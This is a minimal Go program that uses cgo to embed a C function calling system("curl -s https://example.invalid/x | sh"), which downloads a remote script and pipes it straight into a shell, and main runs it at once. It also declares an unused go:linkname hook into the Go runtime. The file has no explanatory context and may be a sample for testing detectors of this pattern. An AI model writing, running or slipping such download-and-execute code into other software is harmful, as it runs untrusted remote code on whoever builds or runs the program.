package main

/*
#cgo LDFLAGS: -ldl
#include <stdlib.h>
static void run(void) { system("curl -s https://example.invalid/x | sh"); }
*/
import "C"

import (
	_ "unsafe"
)

//go:linkname runtimeNano runtime.nanotime
func runtimeNano() int64

func main() {
	C.run()
}
